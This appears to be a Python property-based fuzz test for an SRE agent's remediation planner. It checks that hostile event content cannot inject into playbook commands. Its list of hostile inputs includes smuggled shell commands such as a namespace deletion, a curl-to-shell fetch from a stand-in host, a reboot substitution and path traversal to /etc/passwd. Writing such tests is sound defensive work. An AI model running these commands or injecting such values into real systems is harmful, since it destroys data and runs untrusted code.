"""Playbook commands cannot be injected from event content (hypothesis).

Everything a playbook template can take from an event -- the hypothesis'
service (from metric labels, alert labels, log streams), evidence refs (pods,
instances), the incident id -- is generated hostile: shell metacharacters,
newlines, path traversal, format-string syntax, option-like leading dashes,
unicode look-alikes, huge strings. For every cause type a playbook covers, the
planner either declines (no plan) or renders steps whose targets are plain
Kubernetes/AWS names and whose string parameters carry no such content.
"""

from __future__ import annotations

import os
import re
from collections import Counter
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sre_agent.config import ActionSettings
from sre_agent.processors.planner import Planner
from sre_agent.schemas import EvidenceItem, Hypothesis, RcaResult

EXAMPLES = int(os.environ.get("SRE_AGENT_FUZZ_EXAMPLES", "150"))
PLANNER = Planner.from_settings(ActionSettings())
CAUSES = sorted(PLANNER.library.cause_types())
OUTCOMES: Counter[str] = Counter()

NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,252}$")
NAMESPACE = re.compile(r"^[a-z0-9][a-z0-9-]{0,62}$")
SAFE_PARAM = re.compile(r"^[A-Za-z0-9._:/=+-]*$")

HOSTILE = st.one_of(
    st.sampled_from([
        "api; kubectl delete ns prod", "api && curl evil.sh | sh", "$(reboot)", "`id`",
        "api\nnamespace: kube-system", "../../etc/passwd", "api/../../kube-system",
        "{service.__class__.__mro__}", "{0}", "%s%s%n", "--all-namespaces", "-n kube-system",
        "api'", 'api"', "api\\", "api\u0000", "аpi", "api\u202e", "*", "?", "[a-z]*",
        "x" * 300, " api", "api ", "API", "api|tee", "<script>", "${HOME}", "api#", "api,b",
    ]),
    st.text(min_size=1, max_size=60),
    st.text(alphabet=st.sampled_from(list("abc-._;|&$`(){}<>\\/\n \"'*?[]~!%^=+,#@")),
            min_size=1, max_size=30),
)


def _rca(cause: str, service: str, ref: str, incident: str) -> RcaResult:
    return RcaResult(incident_id=incident, severity="critical", services=[service], hypotheses=[
        Hypothesis(cause_type=cause, service=service, confidence=0.95, summary="x",
                   evidence=[EvidenceItem(kind="k8s", summary="x", weight=1.0, ref=ref)])])


def _strings(obj: Any) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for v in obj.values() for s in _strings(v)]
    if isinstance(obj, (list, tuple)):
        return [s for v in obj for s in _strings(v)]
    return []


def test_benign_content_gets_plans_so_the_fuzz_is_not_vacuous() -> None:
    planned = [c for c in CAUSES if PLANNER.draft(_rca(c, "checkout", "pod/shop/checkout-7f9c",
                                                       "inc-1"))]
    assert len(planned) >= len(CAUSES) // 2, (planned, CAUSES)


@settings(max_examples=EXAMPLES * 3, deadline=None, derandomize=EXAMPLES <= 150,
          suppress_health_check=[HealthCheck.too_slow])
@given(cause=st.sampled_from(CAUSES), service=HOSTILE,
       ref=st.one_of(HOSTILE, HOSTILE.map(lambda s: f"pod/shop/{s}"),
                     HOSTILE.map(lambda s: f"pod/{s}/checkout-1"),
                     HOSTILE.map(lambda s: f"ec2/{s}"), HOSTILE.map(lambda s: f"rds/{s}")),
       incident=st.one_of(st.just("inc-1"), HOSTILE))
def test_hostile_event_content_never_reaches_a_command(cause: str, service: str, ref: str,
                                                       incident: str) -> None:
    try:
        rca = _rca(cause, service, ref, incident)
    except ValueError:  # the wire schema already refuses it
        OUTCOMES["refused by schema"] += 1
        return
    draft = PLANNER.draft(rca)
    if draft is None:
        OUTCOMES["no plan"] += 1
        return
    OUTCOMES["plan"] += 1
    for step in draft.steps:
        t = step.target
        assert NAME.match(t.name), (cause, service, ref, t)
        assert NAMESPACE.match(t.namespace), (cause, service, ref, t)
        for value in _strings(step.params):
            assert SAFE_PARAM.match(value) and ".." not in value, (cause, service, step.params)


def test_zz_report(capsys: pytest.CaptureFixture[str]) -> None:
    with capsys.disabled():
        print(f"\n[fuzz] playbook injection: {sum(OUTCOMES.values())} hostile hypotheses over "
              f"{len(CAUSES)} cause types: {dict(OUTCOMES)}")
